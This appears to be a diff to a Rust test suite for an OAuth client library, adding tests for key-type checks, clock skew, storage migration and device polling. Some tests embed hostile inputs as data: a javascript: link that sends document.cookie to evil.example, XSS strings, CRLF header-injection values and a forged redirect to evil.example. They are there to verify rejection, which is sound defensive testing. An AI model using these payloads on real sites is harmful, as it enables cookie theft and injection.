@@ -18,8 +18,8 @@ use wasm_oauth::core::secret::{AccessToken, RefreshToken};
 use wasm_oauth::core::tokens::TokenSet;
 use wasm_oauth::core::url::WhatwgUrl;
 use wasm_oauth::ports::{
-    Abort, Adapters, Event, Http, HttpRequest, HttpResponse, JsonCodec, MemoryStorage, Published,
-    RsaKey, Storage, Tabs,
+    Abort, Adapters, Algorithm, Event, Http, HttpRequest, HttpResponse, JsonCodec, MemoryStorage,
+    PublicKey, Published, Storage, Tabs,
 };
 
 /// Base64url without padding, for building test tokens.
@@ -70,10 +70,10 @@ const TOKEN_URL: &str = "https://auth.example/api/v1/oauth/token";
 const REVOKE_URL: &str = "https://auth.example/api/v1/oauth/revoke";
 const USERINFO_URL: &str = "https://auth.example/api/v1/userinfo";
 const NOW: u64 = 1_800_000_000_000;
-/// The fake verifier accepts exactly this signature, from the key `k1`.
+/// The fake verifier accepts exactly this signature, from the RSA key `k1`
+/// (RS256, or PS256 when the JWK allows it) or the P-256 key `e1` (ES256).
 const GOOD_SIGNATURE: &[u8] = b"signed-by-k1";
-const JWKS: &str =
-    r#"{"keys":[{"kty":"RSA","kid":"k1","use":"sig","alg":"RS256","n":"AQAB","e":"AQAB"}]}"#;
+const JWKS: &str = r#"{"keys":[{"kty":"RSA","kid":"k1","use":"sig","alg":"RS256","n":"AQAB","e":"AQAB"},{"kty":"RSA","kid":"p1","use":"sig","n":"AQAB","e":"AQAB"},{"kty":"EC","kid":"e1","use":"sig","crv":"P-256","x":"AQ","y":"Ag"}]}"#;
 
 /// Queued answers, each for one URL.
 type Answers = Rc<RefCell<Vec<(String, Result<HttpResponse, AuthError>)>>>;
@@ -89,6 +89,9 @@ struct FakeHttp {
     jwks_down: Rc<Cell<bool>>,
     /// When set, the JWKS endpoint answers this status and body instead.
     jwks_answer: Rc<RefCell<Option<(u16, String)>>>,
+    /// The `Date` header of the answers queued from now on (ms), when the
+    /// provider lets the page read it; `None` (the default) when it does not.
+    date_ms: Rc<Cell<Option<u64>>>,
 }
 
 impl FakeHttp {
@@ -98,7 +101,7 @@ impl FakeHttp {
             Ok(HttpResponse {
                 status,
                 body: body.to_string(),
-                date_ms: None,
+                date_ms: self.date_ms.get(),
             }),
         ));
     }
@@ -293,13 +296,19 @@ impl<S: Storage> Adapters for Fakes<S> {
         }
         Ok(())
     }
-    async fn verify_rs256(
+    async fn verify_signature(
         &self,
-        key: &RsaKey,
+        alg: Algorithm,
+        key: &PublicKey,
         _: &[u8],
         signature: &[u8],
     ) -> Result<bool, AuthError> {
-        Ok(key.n == "AQAB" && signature == GOOD_SIGNATURE)
+        let fits = match (alg, key) {
+            (Algorithm::Rs256 | Algorithm::Ps256, PublicKey::Rsa { n, .. }) => n == "AQAB",
+            (Algorithm::Es256, PublicKey::P256 { x, .. }) => x == "AQ",
+            _ => panic!("select_key handed a key of another type than {alg:?}"),
+        };
+        Ok(fits && signature == GOOD_SIGNATURE)
     }
     fn is_browser(&self) -> bool {
         self.browser
@@ -321,6 +330,12 @@ const REQUEST_MS: u64 = 1_000;
 struct FakeAbort {
     clock: Rc<Cell<u64>>,
     abort_at: Option<u64>,
+    /// A broken runtime timer: each sleep returns at once, the clock standing still.
+    stalls: bool,
+    /// A clock set back by this much during the first sleep.
+    set_back_ms: Cell<Option<u64>>,
+    /// Every sleep asked for, in ms.
+    sleeps: RefCell<Vec<u64>>,
 }
 impl FakeAbort {
     /// Waits on `h`'s fake clock; the app aborts at `abort_at`, if ever.
@@ -328,6 +343,9 @@ impl FakeAbort {
         FakeAbort {
             clock: h.clock.clone(),
             abort_at,
+            stalls: false,
+            set_back_ms: Cell::new(None),
+            sleeps: RefCell::new(Vec::new()),
         }
     }
 }
@@ -337,9 +355,14 @@ impl Abort for FakeAbort {
         self.abort_at.is_some_and(|at| self.clock.get() >= at)
     }
     async fn sleep(&self, ms: u64) {
+        self.sleeps.borrow_mut().push(ms);
+        assert!(self.sleeps.borrow().len() < 1_000, "the poll loop spins");
+        if self.stalls {
+            return;
+        }
         let wake = self.clock.get() + ms;
         let wake = self.abort_at.map_or(wake, |at| wake.min(at));
-        self.clock.set(wake);
+        self.clock.set(wake - self.set_back_ms.take().unwrap_or(0));
     }
 }
 
@@ -748,6 +771,113 @@ fn two_clients_on_one_origin_do_not_share_tokens() {
     assert!(h.client.tokens().is_some());
 }
 
+/// A second client on `h`'s storage, HTTP and clock, with scope `profile`
+/// (no ID token to check) and the id `client_id`.
+fn neighbour(h: &Harness, client_id: &str) -> Harness {
+    let mut o = options();
+    o.client_id = Some(client_id.into());
+    o.scope = Some("profile".into());
+    let f = Fakes {
+        storage: h.storage.clone(),
+        http: h.http.clone(),
+        clock: h.clock.clone(),
+        ..fakes()
+    };
+    harness_on(o, f)
+}
+
+/// Starts a login of a client without `openid` (no nonce); returns its state.
+fn start_without_openid(h: &Harness) -> String {
+    let url = block_on(h.client.start_login(&LoginRequest::default(), None)).unwrap();
+    find(&query_pairs(&url), "state").unwrap().to_string()
+}
+
+const NEIGHBOUR_TOKENS: &str =
+    r#"{"access_token":"AT-N","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-N"}"#;
+
+#[test]
+fn a_client_id_that_extends_another_never_loses_its_session_to_it() {
+    // Client `X:tx`'s entries used to sit inside client X's pending-login
+    // prefix `X:tx:`: every X.loginWithRedirect() swept them away, and so
+    // did X.handleRedirectCallback() on a forged `?code=x&state=tokens`.
+    let x = harness();
+    for suffix in [":tx", ":tx:", ":tokens", ":"] {
+        let n = neighbour(&x, &format!("{CLIENT_ID}{suffix}"));
+        let state = start_without_openid(&n);
+        n.http.answer(200, NEIGHBOUR_TOKENS);
+        callback(&n, &format!("{REDIRECT}?code=C1&state={state}")).unwrap();
+        // What the page holds is storage's now, not the hand-over to other tabs.
+        *n.tabs.published.borrow_mut() = Published::Nothing;
+        let e = callback(&x, &format!("{REDIRECT}?code=x&state=tokens")).unwrap_err();
+        assert!(matches!(e.code(), "missing_transaction" | "state_mismatch"));
+        assert!(
+            n.client.tokens().is_some(),
+            "{suffix}: taken by X's callback"
+        );
+        start(&x);
+        assert!(n.client.tokens().is_some(), "{suffix}: swept by X's login");
+        let e = callback(&x, &format!("{REDIRECT}?code=x&state=tokens")).unwrap_err();
+        assert_eq!(e.code(), "state_mismatch");
+        assert!(
+            n.client.tokens().is_some(),
+            "{suffix}: taken by X's callback"
+        );
+        // And the other way round: its login leaves X's pending ones alone.
+        let (_, x_state, x_nonce) = start(&x);
+        start_without_openid(&n);
+        x.http.answer(200, &token_body(&good_id_token(&x_nonce)));
+        callback(&x, &format!("{REDIRECT}?code=C2&state={x_state}")).unwrap();
+    }
+}
+
+#[test]
+fn a_token_set_stored_under_the_v1_key_is_moved_once() {
+    let id = "legacy:app 1";
+    let old_key = format!("wasm-oauth:v1:{id}:tokens");
+    let new_key = "wasm-oauth:v2:legacy%3Aapp%201:tokens";
+    let stored =
+        r#"{"v":1,"access_token":"AT-OLD","token_type":"Bearer","refresh_token":"RT-OLD"}"#;
+    let h = harness();
+    h.storage.set(&old_key, stored).unwrap();
+    let n = neighbour(&h, id);
+    assert_eq!(n.client.tokens().unwrap().access_token, "AT-OLD");
+    assert_eq!(h.storage.get(&old_key), None, "the old entry is removed");
+    assert_eq!(h.storage.get(new_key).as_deref(), Some(stored));
+    // A set already under the new key wins; the old entry still goes.
+    h.storage
+        .set(&old_key, &stored.replace("AT-OLD", "AT-OLDER"))
+        .unwrap();
+    let n = neighbour(&h, id);
+    assert_eq!(n.client.tokens().unwrap().access_token, "AT-OLD");
+    assert_eq!(h.storage.get(&old_key), None);
+    // What is not a token set under that key (under the old names, another
+    // client's pending login could be) is left alone.
+    h.storage.set(&old_key, r#"{"v":1,"state":"s"}"#).unwrap();
+    neighbour(&h, id);
+    assert!(h.storage.get(&old_key).is_some());
+}
+
+#[test]
+fn a_login_pending_under_the_v1_key_completes_once() {
+    // A login started before the update: its pending login sits under the
+    // old name, and the callback after the update still finds it, once.
+    let h = harness();
+    let (_, state, nonce) = start(&h);
+    let new_key = format!("{KEY_PREFIX}{CLIENT_ID}:tx:{state}");
+    let record = h.storage.get(&new_key).unwrap();
+    h.storage.remove(&new_key);
+    let old_key = format!("wasm-oauth:v1:{CLIENT_ID}:tx:{state}");
+    h.storage.set(&old_key, &record).unwrap();
+    h.http.answer(200, &token_body(&good_id_token(&nonce)));
+    let url = format!("{REDIRECT}?code=C1&state={state}");
+    callback(&h, &url).unwrap();
+    assert_eq!(h.storage.get(&old_key), None);
+    assert_eq!(
+        callback(&h, &url).unwrap_err().code(),
+        "missing_transaction"
+    );
+}
+
 #[test]
 fn par_pushes_the_request_and_sends_only_client_id_and_request_uri() {
     let mut o = options();
@@ -771,6 +901,25 @@ fn par_pushes_the_request_and_sends_only_client_id_and_request_uri() {
     let pushed = parse_pairs(sent[0].form.as_deref().unwrap()).unwrap();
     assert_eq!(find(&pushed, "code_challenge_method"), Some("S256"));
     assert!(find(&pushed, "state").is_some());
+}
+
+#[test]
+fn a_par_request_uri_stays_one_parameter_of_the_navigation() {
+    let mut o = options();
+    o.use_par = Some(true);
+    let h = harness_with(o);
+    let forged = "urn:x&prompt=none&redirect_uri=https://evil.example/#frag";
+    h.http.answer_at(
+        "https://auth.example/api/v1/oauth/par",
+        201,
+        &format!(r#"{{"request_uri":"{forged}","expires_in":600}}"#),
+    );
+    let url = block_on(h.client.start_login(&LoginRequest::default(), None)).unwrap();
+    assert!(url.starts_with("https://auth.example/auth/authorize?client_id="));
+    let params = query_pairs(&url);
+    assert_eq!(params.len(), 2, "{url}");
+    assert_eq!(find(&params, "request_uri"), Some(forged));
+    assert!(url::Url::parse(&url).unwrap().fragment().is_none());
 }
 
 #[test]
@@ -845,6 +994,68 @@ fn userinfo_must_be_about_the_signed_in_user() {
         block_on(h.client.userinfo()).unwrap_err().code(),
         "invalid_response"
     );
+}
+
+#[test]
+fn a_token_answer_whose_tokens_or_scope_break_their_grammar_stores_nothing() {
+    for (member, value) in [
+        ("access_token", "AT\\r\\nX-Injected: 1"),
+        ("refresh_token", "RT\\u0000"),
+        ("scope", "openid\\nprofile"),
+    ] {
+        let h = harness();
+        let (_, state, nonce) = start(&h);
+        let body = token_body(&good_id_token(&nonce));
+        let mut json: serde_json::Value = serde_json::from_str(&body).unwrap();
+        json[member] = serde_json::from_str(&format!("\"{value}\"")).unwrap();
+        h.http.answer(200, &json.to_string());
+        let e = callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap_err();
+        assert_eq!(e.code(), "invalid_response", "{member}");
+        assert!(h.client.tokens().is_none());
+    }
+}
+
+#[test]
+fn a_device_answer_with_a_script_link_is_refused_before_the_app_sees_it() {
+    for (from, to) in [
+        ("https://auth.example/sc", "javascript:alert(1)"),
+        (
+            "https://auth.example/auth/device?code=ABC123",
+            "javascript:fetch('//evil.example/'+document.cookie)",
+        ),
+    ] {
+        let h = harness();
+        h.http
+            .answer_at(DEVICE_URL, 200, &DEVICE_BODY.replacen(from, to, 1));
+        let e = block_on(h.client.start_device_authorization(None)).unwrap_err();
+        assert_eq!(e.code(), "invalid_response", "{to}");
+    }
+}
+
+#[test]
+fn claims_and_userinfo_reach_the_app_as_the_provider_signed_or_sent_them() {
+    // Beyond the members the SDK checks, claims are the provider's
+    // statements, handed over untouched: the SDK makes no link, navigation
+    // or timer of them. An app that shows `picture` or `website` as a link
+    // checks its scheme itself (tests/BAD_INPUTS.md, "Provider values").
+    let h = harness();
+    let (_, state, nonce) = start(&h);
+    let claims = claims_at(&nonce, NOW / 1000).replace(
+        "\"nonce\"",
+        r#""picture":"javascript:alert(1)","name":"<img src=x onerror=alert(1)>","nonce""#,
+    );
+    h.http.answer(200, &token_body(&id_token(&claims)));
+    callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap();
+    let read = h.client.id_token_claims().unwrap();
+    assert_eq!(read["picture"], "javascript:alert(1)");
+    assert_eq!(read["name"], "<img src=x onerror=alert(1)>");
+    h.http.answer_at(
+        USERINFO_URL,
+        200,
+        r#"{"sub":"urn:xeonr:user:alice","website":"javascript:alert(1)"}"#,
+    );
+    let info = block_on(h.client.userinfo()).unwrap();
+    assert_eq!(info["website"], "javascript:alert(1)");
 }
 
 #[test]
@@ -927,14 +1138,48 @@ fn hs256_and_none_id_tokens_are_refused() {
     }
 }
 
+#[test]
+fn es256_and_ps256_id_tokens_are_verified_with_a_key_of_their_own_type() {
+    // (header, accepted): the key of the kid must have the type of the
+    // alg, and an alg the JWK pins (k1: RS256) must be the header's.
+    for (header, accepted) in [
+        (r#"{"alg":"ES256","kid":"e1"}"#, true),
+        (r#"{"alg":"PS256","kid":"p1"}"#, true),
+        (r#"{"alg":"RS256","kid":"p1"}"#, true),
+        (r#"{"alg":"PS256","kid":"k1"}"#, false),
+        (r#"{"alg":"ES256","kid":"k1"}"#, false),
+        (r#"{"alg":"RS256","kid":"e1"}"#, false),
+        (r#"{"alg":"PS256","kid":"e1"}"#, false),
+    ] {
+        let h = harness();
+        let (_, state, nonce) = start(&h);
+        let token = jwt(header, &claims_at(&nonce, NOW / 1000), GOOD_SIGNATURE);
+        h.http.answer(200, &token_body(&token));
+        let result = callback(&h, &format!("{REDIRECT}?code=C1&state={state}"));
+        match result {
+            Ok(outcome) => {
+                assert!(accepted, "{header} was accepted");
+                assert_eq!(outcome.tokens.id_token.as_deref(), Some(token.as_str()));
+            }
+            Err(e) => {
+                assert!(!accepted, "{header} was refused: {}", e.message());
+                assert_eq!(e.code(), "invalid_id_token", "{header}");
+                assert!(h.client.tokens().is_none());
+            }
+        }
+    }
+}
+
 // ---- Clock skew ----
 
 #[test]
 fn browser_clock_ten_minutes_slow_or_fast_still_accepts_fresh_tokens() {
     for offset in [-600_000i64, 600_000] {
         let h = harness();
-        // The provider's clock is NOW; the browser's is off by `offset`.
+        // The provider's clock is NOW, as its readable Date header says;
+        // the browser's is off by `offset`.
         h.clock.set((NOW as i64 + offset) as u64);
+        h.http.date_ms.set(Some(NOW));
         let (_, state, nonce) = start(&h);
         h.http.answer(200, &token_body(&good_id_token(&nonce)));
         callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap();
@@ -948,6 +1193,91 @@ fn browser_clock_ten_minutes_slow_or_fast_still_accepts_fresh_tokens() {
         h.clock.set(t.expires_at_ms.unwrap());
         assert!(!h.client.is_authenticated(), "never used after it expired");
     }
+}
+
+/// Signs in through the code flow with an ID token issued at `iat_s` and
+/// expiring an hour later, the provider's `Date` header unreadable.
+fn sign_in_with_token_issued_at(h: &Harness, iat_s: u64) -> Result<(), AuthError> {
+    let (_, state, nonce) = start(h);
+    h.http
+        .answer(200, &token_body(&id_token(&claims_at(&nonce, iat_s))));
+    callback(h, &format!("{REDIRECT}?code=C1&state={state}")).map(|_| ())
+}
+
+#[test]
+fn an_id_token_never_sets_the_clock_it_is_checked_against() {
+    // A validly signed token that expired 5 hours ago (issued 6 hours ago),
+    // or one issued 6 hours from now, from a token endpoint whose Date
+    // header the page cannot read: each is judged by this clock and the
+    // skew, refused, and leaves the offset alone.
+    let now_s = NOW / 1000;
+    for iat_s in [now_s - 6 * 3600, now_s + 6 * 3600, now_s + 61, now_s - 3661] {
+        let h = harness();
+        let e = sign_in_with_token_issued_at(&h, iat_s).unwrap_err();
+        assert_eq!(e.code(), "invalid_id_token", "iat {iat_s}");
+        assert!(h.client.tokens().is_none(), "nothing stored");
+        assert_eq!(h.client.clock_skew_ms(), 0, "the token moved the clock");
+        // The next good login, and its refresh, are not refused because of it.
+        sign_in_with_token_issued_at(&h, now_s).unwrap();
+        h.clock.set(NOW + 3_600_000 - 10_000);
+        h.http.answer(
+            200,
+            &format!(
+                r#"{{"access_token":"AT-2","token_type":"Bearer","expires_in":3600,"id_token":"{}"}}"#,
+                id_token(&claims_at("unused", now_s + 3590).replace(",\"nonce\":\"unused\"", ""))
+            ),
+        );
+        assert_eq!(block_on(h.client.access_token(30, false)).unwrap(), "AT-2");
+    }
+    // Within the skew (60 s), either way, a token is accepted.
+    for iat_s in [now_s + 59, now_s - 3659] {
+        let h = harness();
+        sign_in_with_token_issued_at(&h, iat_s).unwrap();
+        assert_eq!(h.client.clock_skew_ms(), 0);
+    }
+}
+
+#[test]
+fn a_refreshed_id_token_outside_its_times_is_refused_and_moves_no_clock() {
+    let h = harness();
+    signed_in(&h);
+    let now_s = NOW / 1000;
+    for iat_s in [now_s - 6 * 3600, now_s + 6 * 3600] {
+        let refreshed = id_token(&claims_at("x", iat_s).replace(",\"nonce\":\"x\"", ""));
+        h.http.answer(
+            200,
+            &format!(
+                r#"{{"access_token":"AT-X","token_type":"Bearer","expires_in":3600,"id_token":"{refreshed}"}}"#
+            ),
+        );
+        let e = block_on(h.client.access_token(30, true)).unwrap_err();
+        assert_eq!(e.code(), "invalid_id_token", "iat {iat_s}");
+        assert_eq!(h.client.tokens().unwrap().access_token, "AT-1");
+        assert_eq!(h.client.clock_skew_ms(), 0);
+    }
+}
+
+#[test]
+fn the_date_header_sets_the_offset_and_tokens_outside_it_are_still_refused() {
+    // The provider's Date says its clock is 10 minutes ahead of ours: a
+    // token fresh by that clock is accepted, one expired by it refused.
+    let ahead = 600_000;
+    let provider_now_s = (NOW + ahead) / 1000;
+    let h = harness();
+    h.http.date_ms.set(Some(NOW + ahead));
+    let e = sign_in_with_token_issued_at(&h, provider_now_s - 3661).unwrap_err();
+    assert_eq!(e.code(), "invalid_id_token");
+    assert_eq!(h.client.clock_skew_ms(), ahead as i64);
+    sign_in_with_token_issued_at(&h, provider_now_s).unwrap();
+    // Without the header, a browser 10 minutes slow cannot tell: the token
+    // looks issued in the future, and is refused rather than trusted.
+    let h = harness();
+    assert_eq!(
+        sign_in_with_token_issued_at(&h, provider_now_s)
+            .unwrap_err()
+            .code(),
+        "invalid_id_token"
+    );
 }
 
 // ---- Discovery ----
@@ -1308,6 +1638,39 @@ fn device_denied_expired_and_aborted() {
     let e = block_on(h.client.poll_device_token(&d, NOW, &abort)).unwrap_err();
     assert_eq!(e.code(), "aborted");
     assert_eq!(h.clock.get(), NOW + 5_500);
+}
+
+#[test]
+fn a_sleep_that_does_not_wait_ends_polling_instead_of_spinning() {
+    // The runtime's timer returns at once and the clock stands still (a
+    // rejected or overflowing setTimeout): the loop must stop, not spin.
+    let (h, d) = device_harness();
+    let abort = FakeAbort {
+        stalls: true,
+        ..FakeAbort::on(&h, None)
+    };
+    let e = block_on(h.client.poll_device_token(&d, NOW, &abort)).unwrap_err();
+    assert_eq!(e.code(), "timeout");
+    assert!(abort.sleeps.borrow().len() <= 3, "{:?}", abort.sleeps);
+    assert_eq!(h.http.count_to(TOKEN_URL), 0, "no poll before the interval");
+}
+
+#[test]
+fn a_clock_set_back_a_month_while_polling_keeps_the_interval() {
+    const MONTH: u64 = 30 * 24 * 3600 * 1000;
+    let (h, d) = device_harness();
+    h.http.answer(400, r#"{"error":"authorization_pending"}"#);
+    h.http.answer(
+        200,
+        r#"{"access_token":"DEV-AT","token_type":"Bearer","expires_in":3600}"#,
+    );
+    let abort = FakeAbort::on(&h, None);
+    abort.set_back_ms.set(Some(MONTH));
+    let tokens = block_on(h.client.poll_device_token(&d, NOW, &abort)).unwrap();
+    assert_eq!(tokens.access_token, "DEV-AT");
+    // Each wait is one interval: none is a month long, and none is skipped.
+    assert_eq!(*abort.sleeps.borrow(), vec![5_000, 5_000]);
+    assert_eq!(h.clock.get(), NOW - MONTH + 10_000);
 }
 
 // ---- Server runtimes ----
